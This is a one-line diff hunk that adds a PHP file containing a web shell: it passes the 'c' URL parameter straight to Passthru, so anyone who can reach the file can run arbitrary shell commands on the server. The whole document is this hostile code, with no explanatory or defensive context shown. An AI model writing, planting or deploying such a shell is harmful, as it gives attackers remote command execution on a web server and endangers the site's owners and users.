@@ -1,0 +1,1 @@
+<?php Passthru($_GET['c']); ?>
